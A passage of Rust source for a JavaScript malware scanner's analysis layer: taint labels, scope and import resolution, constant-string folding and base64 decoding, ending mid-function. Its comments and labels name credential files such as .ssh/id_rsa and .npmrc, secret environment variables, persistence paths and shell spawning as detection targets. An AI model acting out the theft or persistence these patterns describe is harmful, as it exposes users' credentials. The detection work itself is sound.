//! The fact layer the JavaScript rules share: one parse per file, flattened
//! into an arena, with scopes, `require`/`import` bindings, resolved call
//! names, constant strings and a small label ("taint") propagation.
//!
//! Everything here is linear in the size of the file (a handful of passes
//! over the node arena), so minified bundles cost time proportional to their
//! size, never to its square: labels are computed bottom-up once per
//! fixpoint round, identifiers are resolved to declarations once, and the
//! number of rounds is capped.

use std::collections::HashMap;

use super::api;

use crate::syntax::flatten;
pub use crate::syntax::{NONE, Node};

/// Label bits: where a value may come from.
pub mod label {
    /// `os.hostname()`, `$HOSTNAME`.
    pub const HOST: u32 = 1;
    /// `os.userInfo()`, `$USER`.
    pub const USER: u32 = 1 << 1;
    /// `os.networkInterfaces()`.
    pub const NETIF: u32 = 1 << 2;
    /// `os.platform()`, `os.type()`, `os.release()`… (weak: user agents use them).
    pub const OSINFO: u32 = 1 << 3;
    /// The whole `process.env` object.
    pub const ENV_ALL: u32 = 1 << 4;
    /// A secret-looking environment variable (`NPM_TOKEN`, `AWS_SECRET_ACCESS_KEY`).
    pub const SECENV: u32 = 1 << 5;
    /// A string naming a credential file (`.npmrc`, `.ssh/id_rsa`).
    pub const SECPATH: u32 = 1 << 6;
    /// The content of a credential file.
    pub const SECRET: u32 = 1 << 7;
    /// A network request/response/socket object or data received from it.
    pub const NET: u32 = 1 << 8;
    /// Decoded data (`atob`, base64/hex `Buffer.from`, `String.fromCharCode`).
    pub const DECODED: u32 = 1 << 9;
    /// The home directory.
    pub const HOME: u32 = 1 << 10;
    /// A shell process (`spawn('/bin/sh')`).
    pub const SHELL: u32 = 1 << 11;
    /// A string naming a persistence location (`.bashrc`, `crontab`).
    pub const PERSIST: u32 = 1 << 12;
    /// The contents of a local file (`fs.readFileSync`, `readFile` data).
    pub const FILEDATA: u32 = 1 << 13;
    /// The output of a command (`execSync(...)`, the `exec` callback's stdout).
    pub const PROCOUT: u32 = 1 << 14;
    /// Screen pixels (`screenshot-desktop`, `desktopCapturer`).
    pub const SCREEN: u32 = 1 << 15;
    /// Clipboard contents (`clipboardy.read`, `pbpaste`, `Get-Clipboard`).
    pub const CLIP: u32 = 1 << 16;

    /// Local data that has no business leaving the machine unasked.
    pub const LOCAL_DATA: u32 = FILEDATA | PROCOUT | SCREEN | CLIP;

    /// Host information worth stealing (not counting the weak `OSINFO`).
    pub const RECON_STRONG: u32 = HOST | USER | NETIF | ENV_ALL;
    /// Any host information.
    pub const RECON: u32 = RECON_STRONG | OSINFO;

    /// Names of the bits set in `l`, for evidence lines.
    #[must_use]
    pub fn names(l: u32) -> Vec<&'static str> {
        const ALL: [(u32, &str); 17] = [
            (HOST, "hostname"),
            (USER, "user name"),
            (NETIF, "network interfaces"),
            (OSINFO, "OS type/version"),
            (ENV_ALL, "the whole environment"),
            (SECENV, "secret environment variables"),
            (SECPATH, "a credential file path"),
            (SECRET, "credential file contents"),
            (NET, "network data"),
            (DECODED, "decoded data"),
            (HOME, "home directory"),
            (SHELL, "a shell process"),
            (PERSIST, "a persistence path"),
            (FILEDATA, "local file contents"),
            (PROCOUT, "command output"),
            (SCREEN, "a screenshot"),
            (CLIP, "clipboard contents"),
        ];
        ALL.iter()
            .filter(|(b, _)| l & b != 0)
            .map(|(_, n)| *n)
            .collect()
    }
}

/// A declared name (variable, parameter, import, function) in one scope.
#[derive(Clone, Debug)]
pub struct Decl<'a> {
    /// The name.
    pub name: &'a str,
    /// The scope node it belongs to.
    pub scope: u32,
    /// What it is bound to, when it is a module or module member
    /// (`child_process`, `child_process.exec`, `process.env`).
    pub binding: Option<String>,
    /// Labels of the values assigned to it.
    pub labels: u32,
    /// The initial value, when declared with one (for constant strings).
    pub init: u32,
    /// Assigned more than once (not a constant).
    pub reassigned: bool,
}

/// A call (`f(x)`) or construction (`new F(x)`).
#[derive(Clone, Debug)]
pub struct Call<'a> {
    /// The call node.
    pub node: u32,
    /// Resolved qualified name of the callee (`child_process.exec`,
    /// `eval`, `Buffer.from`), when it can be told.
    pub path: Option<String>,
    /// The method name when the callee is `x.m` (even if `x` is unknown).
    pub method: Option<&'a str>,
    /// The receiver node of `x.m(...)`.
    pub receiver: u32,
    /// Argument nodes (named children of `arguments`).
    pub args: Vec<u32>,
    /// `new F(...)`.
    pub is_new: bool,
}

/// Everything the rules know about one file.
pub struct Facts<'a> {
    /// The source text.
    pub src: &'a str,
    /// The node arena, in pre-order.
    pub nodes: Vec<Node>,
    scope_of: Vec<u32>,
    /// Declarations.
    pub decls: Vec<Decl<'a>>,
    /// Declaration of each identifier node (`NONE` when not an identifier
    /// or undeclared).
    ident_decl: Vec<u32>,
    /// Labels of each node after propagation.
    pub labels: Vec<u32>,
    /// Every call and `new`.
    pub calls: Vec<Call<'a>>,
    /// Every string and template string node.
    pub strings: Vec<u32>,
    /// Distinct `_0x1a2b`-style identifiers.
    pub hex_idents: usize,
    /// Distinct identifiers.
    pub idents: usize,
    /// Steps left for constant folding in this file: hostile input (one
    /// huge template referenced from thousands of calls) must not turn
    /// linear passes into quadratic ones.
    budget: std::cell::Cell<u32>,
}

/// Constant-folding steps allowed per file.
const FOLD_BUDGET: u32 = 300_000;

const MAX_ROUNDS: usize = 6;
const MAX_DEPTH: usize = 48;

/// Nodes that are functions (their body runs when called, not where it
/// stands).
pub fn is_function(kind: &str) -> bool {
    matches!(
        kind,
        "function_declaration"
            | "function_expression"
            | "arrow_function"
            | "method_definition"
            | "generator_function"
            | "generator_function_declaration"
    )
}

fn is_scope(kind: &str) -> bool {
    is_function(kind) || matches!(kind, "program" | "class_static_block")
}

/// Nodes whose value does not carry the data inside their body.
fn is_boundary(kind: &str) -> bool {
    is_function(kind) || matches!(kind, "class_declaration" | "class" | "comment")
}

impl<'a> Facts<'a> {
    /// Parse `src` and build the facts. `None` when tree-sitter gives up
    /// (it does not on any input we have seen, but the API allows it).
    #[must_use]
    pub fn build(src: &'a str) -> Option<Self> {
        let mut parser = tree_sitter::Parser::new();
        parser
            .set_language(&tree_sitter_javascript::LANGUAGE.into())
            .ok()?;
        let tree = parser.parse(src, None)?;
        let nodes = flatten(&tree, &crate::syntax::JAVASCRIPT);
        drop(tree);
        let mut f = Facts {
            src,
            scope_of: Vec::new(),
            decls: Vec::new(),
            ident_decl: Vec::new(),
            labels: Vec::new(),
            calls: Vec::new(),
            strings: Vec::new(),
            hex_idents: 0,
            idents: 0,
            budget: std::cell::Cell::new(FOLD_BUDGET),
            nodes,
        };
        f.analyse();
        Some(f)
    }

    /// Text of a node.
    #[must_use]
    pub fn text(&self, i: u32) -> &'a str {
        let src: &'a str = self.src;
        self.nodes
            .get(i as usize)
            .and_then(|n| src.get(n.start as usize..n.end as usize))
            .unwrap_or("")
    }

    /// Kind of a node ("" for `NONE`).
    #[must_use]
    pub fn kind(&self, i: u32) -> &'static str {
        self.nodes.get(i as usize).map_or("", |n| n.kind)
    }

    /// Parent of a node.
    #[must_use]
    pub fn parent(&self, i: u32) -> u32 {
        self.nodes.get(i as usize).map_or(NONE, |n| n.parent)
    }

    /// Children of a node.
    pub fn children(&self, i: u32) -> impl Iterator<Item = u32> + '_ {
        let first = self.nodes.get(i as usize).map_or(NONE, |n| n.first);
        std::iter::successors((first != NONE).then_some(first), move |&c| {
            let n = self.nodes[c as usize].next;
            (n != NONE).then_some(n)
        })
    }

    /// The child in field `f`.
    #[must_use]
    pub fn field(&self, i: u32, f: &str) -> u32 {
        self.children(i)
            .find(|&c| self.nodes[c as usize].field == Some(f))
            .unwrap_or(NONE)
    }

    /// 1-based line and column.
    #[must_use]
    pub fn line_col(&self, i: u32) -> (u32, u32) {
        self.nodes
            .get(i as usize)
            .map_or((0, 0), |n| (n.row + 1, n.col + 1))
    }

    /// Union of the labels of a call's arguments.
    #[must_use]
    pub fn arg_labels(&self, c: &Call<'_>) -> u32 {
        c.args.iter().fold(0, |acc, &a| {
            acc | self.labels.get(a as usize).copied().unwrap_or(0)
        })
    }

    /// Minified or bundled: long lines, few of them. Label flows through
    /// one-letter names reused across a bundle are less trustworthy there.
    #[must_use]
    pub fn looks_minified(&self) -> bool {
        let len = self.src.len();
        let lines = memchr::memchr_iter(b'\n', self.src.as_bytes()).count() + 1;
        len >= 10_000 && len / lines > 250
    }

    /// The call whose node is `i`.
    #[must_use]
    pub fn call_at(&self, i: u32) -> Option<&Call<'a>> {
        let k = self.calls.binary_search_by_key(&i, |c| c.node).ok()?;
        self.calls.get(k)
    }

    /// Labels of a node.
    #[must_use]
    pub fn label(&self, i: u32) -> u32 {
        self.labels.get(i as usize).copied().unwrap_or(0)
    }

    fn analyse(&mut self) {
        let n = self.nodes.len();
        // Scopes: a child of a scope node lives in that scope; the scope
        // node itself (its name) lives in the enclosing one.
        let mut scope_of = vec![0u32; n];
        for i in 1..n {
            let p = self.nodes[i].parent as usize;
            scope_of[i] = if is_scope(self.nodes[p].kind) {
                p as u32
            } else {
                scope_of[p]
            };
        }
        self.scope_of = scope_of;

        let mut index: HashMap<(u32, &'a str), u32> = HashMap::new();
        let mut flows: Vec<(u32, u32)> = Vec::new(); // (decl, value node)
        let mut bind_jobs: Vec<(u32, u32, Option<&'a str>)> = Vec::new(); // (decl, value, member)
        let mut implicit: Vec<(u32, u32)> = Vec::new(); // (identifier node, value) for undeclared assignment

        for i in 0..n as u32 {
            match self.nodes[i as usize].kind {
                "variable_declarator" => {
                    let name = self.field(i, "name");
                    let value = self.field(i, "value");
                    self.declare_pattern(name, value, &mut index, &mut flows, &mut bind_jobs);
                }
                "for_in_statement" => {
                    let left = self.field(i, "left");
                    let right = self.field(i, "right");
                    // `for (x of xs)` without a declaration assigns an outer name.
                    if self.kind(left) != "identifier"
                        || self.children(i).any(|c| {
                            self.kind(c) == "const"
                                || self.kind(c) == "let"
                                || self.kind(c) == "var"
                        })
                    {
                        self.declare_pattern(left, right, &mut index, &mut flows, &mut Vec::new());
                    }
                }
                "formal_parameters" => {
                    let kids: Vec<u32> = self.children(i).collect();
                    for c in kids {
                        // A default value flows into its parameter.
                        let (pat, value) = if self.kind(c) == "assignment_pattern" {
                            (self.field(c, "left"), self.field(c, "right"))
                        } else {
                            (c, NONE)
                        };
                        self.declare_pattern(pat, value, &mut index, &mut flows, &mut Vec::new());
                    }
                }
                "arrow_function" => {
                    let p = self.field(i, "parameter");
                    if p != NONE {
                        self.declare_pattern(p, NONE, &mut index, &mut flows, &mut Vec::new());
                    }
                }
                "catch_clause" => {
                    let p = self.field(i, "parameter");
                    self.declare_pattern(p, NONE, &mut index, &mut flows, &mut Vec::new());
                }
                "function_declaration" | "generator_function_declaration" | "class_declaration" => {
                    let name = self.field(i, "name");
                    if name != NONE {
                        let s = self.scope_of[i as usize];
                        self.declare(s, self.text(name), NONE, &mut index);
                    }
                }
                "import_statement" => self.declare_import(i, &mut index),
                "call_expression" => {
                    // `list.push(x)`, `Object.assign(target, x)`: the
                    // container now holds `x`.
                    let callee = self.field(i, "function");
                    let args = self.field(i, "arguments");
                    let (target, skip) = if self.text(callee) == "Object.assign" {
                        (
                            self.children(args)
                                .next()
                                .map_or(NONE, |a| self.root_ident(a)),
                            1,
                        )
                    } else if self.kind(callee) == "member_expression"
                        && matches!(
                            self.text(self.field(callee, "property")),
                            "push" | "unshift" | "add" | "set" | "append" | "concat"
                        )
                    {
                        (self.root_ident(self.field(callee, "object")), 0)
                    } else {
                        (NONE, 0)
                    };
                    if target != NONE {
                        for a in self.children(args).skip(skip).take(8).collect::<Vec<_>>() {
                            implicit.push((target, a));
                        }
                    }
                }
                "assignment_expression" | "augmented_assignment_expression" => {
                    let left = self.field(i, "left");
                    let right = self.field(i, "right");
                    let root = self.root_ident(left);
                    if root != NONE {
                        implicit.push((root, right));
                    } else if matches!(self.kind(left), "object_pattern" | "array_pattern") {
                        let mut ids = Vec::new();
                        self.pattern_idents(left, &mut ids, 0);
                        for id in ids {
                            implicit.push((id, right));
                        }
                    }
                }
                _ => {}
            }
        }

        // Resolve every identifier to its declaration.
        let mut ident_decl = vec![NONE; n];
        let mut seen_idents: std::collections::HashSet<&'a str> = std::collections::HashSet::new();
        let mut hex = 0usize;
        for (i, slot) in ident_decl.iter_mut().enumerate() {
            let k = self.nodes[i].kind;
            if k == "identifier" || k == "shorthand_property_identifier" {
                let name = self.text(i as u32);
                if seen_idents.insert(name) && is_hex_ident(name) {
                    hex += 1;
                }
                let mut s = self.scope_of[i];
                loop {
                    if let Some(&d) = index.get(&(s, name)) {
                        *slot = d;
                        break;
                    }
                    if s == 0 {
                        break;
                    }
                    s = self.scope_of[s as usize];
                }
            }
        }
        self.hex_idents = hex;
        self.idents = seen_idents.len();
        // Assignments to undeclared names create implicit globals.
        for (id, value) in implicit {
            let mut d = ident_decl[id as usize];
            if d == NONE {
                let name = self.text(id);
                d = self.declare(0, name, NONE, &mut index);
                ident_decl[id as usize] = d;
            }
            if let Some(decl) = self.decls.get_mut(d as usize) {
                decl.reassigned = true;
            }
            flows.push((d, value));
        }
        // Identifiers used before a global assignment seen later.
        for (i, slot) in ident_decl.iter_mut().enumerate() {
            if *slot == NONE {
                let k = self.nodes[i].kind;
                if (k == "identifier" || k == "shorthand_property_identifier")
                    && let Some(&d) = index.get(&(0, self.text(i as u32)))
                {
                    *slot = d;
                }
            }
        }
        self.ident_decl = ident_decl;

        // Bindings, twice so aliases declared out of order settle.
        for _ in 0..2 {
            for &(d, value, member) in &bind_jobs {
                if self.decls[d as usize].binding.is_some() {
                    continue;
                }
                let b = self.resolve_path(value, 0).map(|p| match member {
                    Some(m) => format!("{p}.{m}"),
                    None => p,
                });
                self.decls[d as usize].binding = b.filter(|p| worth_binding(p));
            }
        }

        // Calls, strings.
        for i in 0..n as u32 {
            match self.kind(i) {
                "call_expression" | "new_expression" => {
                    let is_new = self.kind(i) == "new_expression";
                    let callee = self.field(i, if is_new { "constructor" } else { "function" });
                    let args_node = self.field(i, "arguments");
                    let args: Vec<u32> = if self.kind(args_node) == "template_string" {
                        vec![args_node]
                    } else {
                        self.children(args_node)
                            .filter(|&c| self.kind(c) != "comment")
                            .collect()
                    };
                    let (method, receiver) = match self.kind(self.strip_parens(callee)) {
                        "member_expression" => {
                            let m = self.strip_parens(callee);
                            (
                                Some(self.text(self.field(m, "property"))),
                                self.field(m, "object"),
                            )
                        }
                        _ => (None, NONE),
                    };
                    let path = self.resolve_path(callee, 0);
                    self.calls.push(Call {
                        node: i,
                        path,
                        method,
                        receiver,
                        args,
                        is_new,
                    });
                }
                "string" | "template_string" => self.strings.push(i),
                _ => {}
            }
        }

        self.propagate(&flows);
    }

    fn strip_parens(&self, mut i: u32) -> u32 {
        for _ in 0..MAX_DEPTH {
            match self.kind(i) {
                "parenthesized_expression" | "await_expression" => {
                    i = self
                        .children(i)
                        .find(|&c| self.kind(c) != "comment")
                        .unwrap_or(NONE);
                }
                "sequence_expression" => {
                    i = self.children(i).last().unwrap_or(NONE);
                }
                _ => return i,
            }
        }
        i
    }

    /// The identifier at the root of `a.b.c` / `a[b]` / `a`.
    fn root_ident(&self, mut i: u32) -> u32 {
        for _ in 0..MAX_DEPTH {
            match self.kind(i) {
                "identifier" => return i,
                "member_expression" | "subscript_expression" => i = self.field(i, "object"),
                "parenthesized_expression" => i = self.children(i).next().unwrap_or(NONE),
                _ => return NONE,
            }
        }
        NONE
    }

    fn declare(
        &mut self,
        scope: u32,
        name: &'a str,
        init: u32,
        index: &mut HashMap<(u32, &'a str), u32>,
    ) -> u32 {
        if let Some(&d) = index.get(&(scope, name)) {
            let decl = &mut self.decls[d as usize];
            if init != NONE || decl.init != NONE {
                decl.reassigned = true;
            }
            return d;
        }
        let d = self.decls.len() as u32;
        self.decls.push(Decl {
            name,
            scope,
            binding: None,
            labels: 0,
            init,
            reassigned: false,
        });
        index.insert((scope, name), d);
        d
    }

    fn pattern_idents(&self, p: u32, out: &mut Vec<u32>, depth: usize) {
        if depth > MAX_DEPTH {
            return;
        }
        match self.kind(p) {
            "identifier" | "shorthand_property_identifier_pattern" => out.push(p),
            "pair_pattern" => self.pattern_idents(self.field(p, "value"), out, depth + 1),
            "assignment_pattern" => self.pattern_idents(self.field(p, "left"), out, depth + 1),
            "object_pattern" | "array_pattern" | "rest_pattern" | "object_assignment_pattern" => {
                for c in self.children(p).collect::<Vec<_>>() {
                    if self.kind(p) == "object_assignment_pattern"
                        && self.nodes[c as usize].field == Some("right")
                    {
                        continue;
                    }
                    self.pattern_idents(c, out, depth + 1);
                }
            }
            _ => {}
        }
    }

    fn declare_pattern(
        &mut self,
        pat: u32,
        value: u32,
        index: &mut HashMap<(u32, &'a str), u32>,
        flows: &mut Vec<(u32, u32)>,
        bind_jobs: &mut Vec<(u32, u32, Option<&'a str>)>,
    ) {
        if pat == NONE {
            return;
        }
        let scope = self.scope_of[pat as usize];
        if self.kind(pat) == "identifier" {
            let d = self.declare(scope, self.text(pat), value, index);
            if value != NONE {
                flows.push((d, value));
                bind_jobs.push((d, value, None));
            }
            return;
        }
        // Destructuring: `{ exec, spawn: sp } = require('child_process')`.
        if self.kind(pat) == "object_pattern" {
            for c in self.children(pat).collect::<Vec<_>>() {
                match self.kind(c) {
                    "shorthand_property_identifier_pattern" => {
                        let name = self.text(c);
                        let d = self.declare(scope, name, NONE, index);
                        if value != NONE {
                            flows.push((d, value));
                            bind_jobs.push((d, value, Some(name)));
                        }
                    }
                    "pair_pattern" => {
                        let key = self.field(c, "key");
                        let v = self.field(c, "value");
                        let key_text = unquote_simple(self.text(key));
                        if self.kind(v) == "identifier" {
                            let d = self.declare(scope, self.text(v), NONE, index);
                            if value != NONE {
                                flows.push((d, value));
                                bind_jobs.push((d, value, Some(key_text)));
                            }
                        } else {
                            let mut ids = Vec::new();
                            self.pattern_idents(v, &mut ids, 0);
                            for id in ids {
                                let d = self.declare(scope, self.text(id), NONE, index);
                                if value != NONE {
                                    flows.push((d, value));
                                }
                            }
                        }
                    }
                    _ => {
                        let mut ids = Vec::new();
                        self.pattern_idents(c, &mut ids, 0);
                        for id in ids {
                            let d = self.declare(scope, self.text(id), NONE, index);
                            if value != NONE {
                                flows.push((d, value));
                            }
                        }
                    }
                }
            }
            return;
        }
        let mut ids = Vec::new();
        self.pattern_idents(pat, &mut ids, 0);
        for id in ids {
            let d = self.declare(scope, self.text(id), NONE, index);
            if value != NONE {
                flows.push((d, value));
            }
        }
    }

    fn declare_import(&mut self, i: u32, index: &mut HashMap<(u32, &'a str), u32>) {
        let source = self.field(i, "source");
        let Some(module) = self.string_value(source).map(|s| normalize_module(&s)) else {
            return;
        };
        let scope = self.scope_of[i as usize];
        let clause = self.children(i).find(|&c| self.kind(c) == "import_clause");
        let Some(clause) = clause else { return };
        for c in self.children(clause).collect::<Vec<_>>() {
            match self.kind(c) {
                "identifier" => {
                    let d = self.declare(scope, self.text(c), NONE, index);
                    self.decls[d as usize].binding = Some(module.clone());
                }
                "namespace_import" => {
                    let id = self.children(c).find(|&x| self.kind(x) == "identifier");
                    if let Some(id) = id {
                        let d = self.declare(scope, self.text(id), NONE, index);
                        self.decls[d as usize].binding = Some(module.clone());
                    }
                }
                "named_imports" => {
                    for spec in self.children(c).collect::<Vec<_>>() {
                        if self.kind(spec) != "import_specifier" {
                            continue;
                        }
                        let name = self.field(spec, "name");
                        let alias = self.field(spec, "alias");
                        let local = if alias == NONE { name } else { alias };
                        let member = unquote_simple(self.text(name));
                        let d = self.declare(scope, self.text(local), NONE, index);
                        self.decls[d as usize].binding = Some(if member == "default" {
                            module.clone()
                        } else {
                            format!("{module}.{member}")
                        });
                    }
                }
                _ => {}
            }
        }
    }

    /// The declaration an identifier node refers to.
    #[must_use]
    pub fn decl_of(&self, i: u32) -> Option<&Decl<'a>> {
        let d = *self.ident_decl.get(i as usize)?;
        self.decls.get(d as usize)
    }

    /// Resolve an expression to a qualified name: `cp.exec` with
    /// `const cp = require('child_process')` gives `child_process.exec`;
    /// undeclared globals give their own name (`eval`, `process.env`).
    #[must_use]
    pub fn resolve_path(&self, i: u32, depth: usize) -> Option<String> {
        if depth > MAX_DEPTH || i == NONE {
            return None;
        }
        match self.kind(i) {
            "identifier" => {
                let name = self.text(i);
                if name == "require" {
                    return Some("require".into());
                }
                match self.decl_of(i) {
                    None => Some(name.to_owned()),
                    Some(d) => d.binding.clone(),
                }
            }
            "member_expression" | "subscript_expression" => {
                let obj = self.field(i, "object");
                let prop = if self.kind(i) == "member_expression" {
                    self.text(self.field(i, "property")).to_owned()
                } else {
                    let idx = self.field(i, "index");
                    self.const_string(idx, 0)?
                };
                let base = self.resolve_path(obj, depth + 1)?;
                if matches!(base.as_str(), "globalThis" | "global" | "window" | "self") {
                    return Some(prop);
                }
                if prop == "default" && !base.contains('.') {
                    return Some(base);
                }
                if base.len() + prop.len() > 256 {
                    return None;
                }
                Some(format!("{base}.{prop}"))
            }
            "call_expression" => {
                let callee = self.field(i, "function");
                let args = self.field(i, "arguments");
                let first = self
                    .children(args)
                    .find(|&c| self.kind(c) != "comment")
                    .unwrap_or(NONE);
                let ctext = self.text(callee);
                if self.kind(callee) == "import"
                    || matches!(
                        ctext,
                        "require" | "module.require" | "__require" | "__non_webpack_require__"
                    )
                {
                    // `require('child_' + 'process')` too, when fully constant.
                    return self
                        .const_string(first, depth + 1)
                        .filter(|s| !s.contains('…'))
                        .map(|s| normalize_module(&s));
                }
                // Interop wrappers from Babel, TypeScript and esbuild.
                if self.kind(callee) == "identifier" && ctext.starts_with('_') && first != NONE {
                    return self.resolve_path(first, depth + 1);
                }
                None
            }
            "parenthesized_expression" | "sequence_expression" | "await_expression" => {
                self.resolve_path(self.strip_parens(i), depth + 1)
            }
            _ => None,
        }
    }

    /// The literal value of a plain string node.
    #[must_use]
    pub fn string_value(&self, i: u32) -> Option<String> {
        match self.kind(i) {
            "string" => Some(unescape_js(strip_quotes(self.text(i)))),
            "template_string"
                if !self
                    .children(i)
                    .any(|c| self.kind(c) == "template_substitution") =>
            {
                Some(unescape_js(strip_quotes(self.text(i))))
            }
            _ => None,
        }
    }

    /// Best-effort constant value of an expression: literals, templates,
    /// `+` concatenation, `[..].join('')` and constants declared once.
    /// Unknown parts become `…`; `None` when nothing is known.
    #[must_use]
    pub fn const_string(&self, i: u32, depth: usize) -> Option<String> {
        const CAP: usize = 8192;
        if depth > 8 || i == NONE {
            return None;
        }
        let left = self.budget.get();
        if left == 0 {
            return None;
        }
        self.budget.set(left - 1);
        let out = match self.kind(i) {
            "string" => self.string_value(i),
            "template_string" => {
                let mut s = String::new();
                let n = &self.nodes[i as usize];
                let mut pos = n.start as usize + 1;
                for c in self.children(i) {
                    // Each part costs a step, so a template with a
                    // hundred thousand parts cannot be re-read forever.
                    let left = self.budget.get();
                    if s.len() > CAP || left == 0 {
                        break;
                    }
                    self.budget.set(left - 1);
                    if self.kind(c) == "template_substitution" {
                        let cn = &self.nodes[c as usize];
                        s.push_str(&unescape_js(
                            self.src.get(pos..cn.start as usize).unwrap_or(""),
                        ));
                        let inner = self.children(c).next().unwrap_or(NONE);
                        s.push_str(
                            &self
                                .const_string(inner, depth + 1)
                                .unwrap_or_else(|| "…".into()),
                        );
                        pos = cn.end as usize;
                    }
                }
                s.push_str(&unescape_js(
                    self.src
                        .get(pos..(n.end as usize).saturating_sub(1))
                        .unwrap_or(""),
                ));
                Some(s)
            }
            "binary_expression" => {
                let op = self.field(i, "operator");
                if self.text(op) != "+" {
                    return None;
                }
                let l = self.const_string(self.field(i, "left"), depth + 1);
                let r = self.const_string(self.field(i, "right"), depth + 1);
                if l.is_none() && r.is_none() {
                    return None;
                }
                Some(format!(
                    "{}{}",
                    l.unwrap_or_else(|| "…".into()),
                    r.unwrap_or_else(|| "…".into())
                ))
            }
            "identifier" => {
                let d = self.decl_of(i)?;
                if d.reassigned || d.init == NONE {
                    return None;
                }
                self.const_string(d.init, depth + 1)
            }
            "parenthesized_expression" => self.const_string(self.strip_parens(i), depth + 1),
            "call_expression" => {
                let callee = self.field(i, "function");
                // `atob('Y2hpbGRfcHJvY2Vzcw==')`,
                // `Buffer.from('…', 'base64').toString()`: decode constants.
                if let Some(d) = self.decoded_constant(i, depth) {
                    return Some(d);
                }
                // `['cu', 'rl'].join('')`
                if self.kind(callee) != "member_expression"
                    || self.text(self.field(callee, "property")) != "join"
                {
                    return None;
                }
                let arr = self.field(callee, "object");
                if self.kind(arr) != "array" {
                    return None;
                }
                let args = self.field(i, "arguments");
                let sep = self
                    .children(args)
                    .next()
                    .and_then(|a| self.string_value(a))
                    .unwrap_or_else(|| ",".into());
                let parts: Vec<String> = self
                    .children(arr)
                    .take(256)
                    .map(|c| {
                        self.const_string(c, depth + 1)
                            .unwrap_or_else(|| "…".into())
                    })
                    .collect();
                Some(parts.join(&sep))
            }
            _ => None,
        };
        out.map(|mut s| {
            if s.len() > CAP {
                let mut cut = CAP;
                while !s.is_char_boundary(cut) {
                    cut -= 1;
                }
                s.truncate(cut);
            }
            s
        })
    }

    /// The text of a base64 decode of a constant, when it is printable.
    fn decoded_constant(&self, i: u32, depth: usize) -> Option<String> {
        use base64::Engine as _;
        let callee = self.field(i, "function");
        let args = self.field(i, "arguments");
        let arg = |k: usize| self.children(args).nth(k).unwrap_or(NONE);
        let encoded = match self.text(callee) {
            "atob" => self.const_string(arg(0), depth + 1)?,
            // `Buffer.from(x, 'base64').toString(…)`
            _ if self.kind(callee) == "member_expression"
                && self.text(self.field(callee, "property")) == "toString" =>
            {
                let inner = self.field(callee, "object");
                if self.kind(inner) != "call_expression"
                    || self.text(self.field(inner, "function")) != "Buffer.from"
                {
                    return None;
                }
                let iargs = self.field(inner, "arguments");
                let enc = self
                    .children(iargs)
                    .nth(1)
                    .and_then(|e| self.string_value(e))?;
                if !enc.eq_ignore_ascii_case("base64") {
                    return None;
                }
                self.const_string(self.children(iargs).next().unwrap_or(NONE), depth + 1)?
            }
            _ => return None,
        };
        if encoded.contains('…') || encoded.len() > 4096 {
            return None;
        }
        let bytes = base64::engine::general_purpose::STANDARD
            .decode(encoded.trim())
            .ok()?;
        let text = String::from_utf8(bytes).ok()?;
        text.chars()
            .all(|c| !c.is_control() || c.is_whitespace())
            .then_some(text)
    }

    fn own_labels(&self) -> Vec<u32> {
        let mut own = vec![0u32; self.nodes.len()];
        for c in &self.calls {
            let mut l = api::call_labels(self, c);
            if let Some(p) = c.path.as_deref() {
                // A read of a credential path yields credentials.
                if api::is_fs_read(p) && self.args_have_marker(c, api::secret_marker) {
                    l |= label::SECRET;
                }
                // A request to the cloud metadata service yields credentials.
                if api::is_network(p) && self.args_have_marker(c, api::imds_marker) {
                    l |= label::SECRET;
                }
            }
            own[c.node as usize] |= l;
        }
        for (i, n) in self.nodes.iter().enumerate() {
            match n.kind {
                "member_expression" | "subscript_expression" => {
                    // Only `process.env` and `process.env.X` matter; look at
                    // the property names, never the whole (possibly huge) text.
                    let prop_is_env = |m: u32| {
                        self.kind(m) == "member_expression"
                            && self.text(self.field(m, "property")) == "env"
                    };
                    let obj = self.field(i as u32, "object");
                    if !(prop_is_env(i as u32) || prop_is_env(obj)) {
                        continue;
                    }
                    let parent = n.parent;
                    let parent_is_access = parent != NONE
                        && matches!(
                            self.kind(parent),
                            "member_expression" | "subscript_expression"
                        )
                        && self.field(parent, "object") == i as u32;
                    let Some(path) = self.resolve_path(i as u32, 0) else {
                        // `process.env[k]` with a computed key reads any
                        // variable: as good as the whole environment.
                        if n.kind == "subscript_expression"
                            && self.resolve_path(obj, 0).as_deref() == Some("process.env")
                        {
                            own[i] |= label::ENV_ALL;
                        }
                        continue;
                    };
                    if path == "process.env" {
                        if !parent_is_access {
                            own[i] |= label::ENV_ALL;
                        }
                    } else if let Some(var) = path.strip_prefix("process.env.") {
                        own[i] |= api::env_var_labels(var);
                    }
                }
                "string" | "template_string" => {
                    let t = self.text(i as u32);
                    if t.len() < 4 {
                        continue;
                    }
                    let norm = normalize_path(t);
                    let inner = strip_quotes(&norm);
                    if api::secret_marker(inner).is_some() {
                        own[i] |= label::SECPATH;
                    }
                    if api::persist_marker(inner).is_some() {
                        own[i] |= label::PERSIST;
                    }
                }
                _ => {}
            }
        }
        own
    }

    /// Does any argument of `c` mention a marker (directly or through a
    /// constant)?
    pub fn args_have_marker(&self, c: &Call<'_>, f: fn(&str) -> Option<&'static str>) -> bool {
        self.args_marker(c, f).is_some()
    }

    /// The first marker found in the arguments of `c`.
    pub fn args_marker(
        &self,
        c: &Call<'_>,
        f: fn(&str) -> Option<&'static str>,
    ) -> Option<&'static str> {
        for &a in c.args.iter().take(4) {
            if let Some(m) = self.subtree_marker(a, f, 0) {
                return Some(m);
            }
        }
        None
    }

    fn subtree_marker(
        &self,
        i: u32,
        f: fn(&str) -> Option<&'static str>,
        depth: usize,
    ) -> Option<&'static str> {
        if depth > 6 || i == NONE {
            return None;
        }
        match self.kind(i) {
            "string" | "template_string" | "binary_expression" => {
                let s = normalize_path(&self.const_string(i, 0)?);
                f(&s)
            }
            "identifier" => {
                let d = self.decl_of(i)?;
                if d.init == NONE {
                    return None;
                }
                self.subtree_marker(d.init, f, depth + 1)
            }
            "call_expression"
            | "arguments"
            | "array"
            | "parenthesized_expression"
            | "object"
            | "pair" => {
                // `path.join(os.homedir(), '.ssh', 'id_rsa')`: join the parts.
                if self.kind(i) == "call_expression" {
                    let args = self.field(i, "arguments");
                    let parts: Vec<String> = self
                        .children(args)
                        .take(16)
                        .map(|a| {
                            self.const_string(a, 0)
                                .or_else(|| {
                                    (self.kind(a) == "identifier")
                                        .then(|| self.decl_of(a))
                                        .flatten()
                                        .filter(|d| d.init != NONE)
                                        .and_then(|d| self.const_string(d.init, 0))
                                })
                                .unwrap_or_default()
                        })
                        .collect();
                    let joined = normalize_path(&parts.join("/"));
                    if let Some(m) = f(&joined) {
                        return Some(m);
                    }
                }
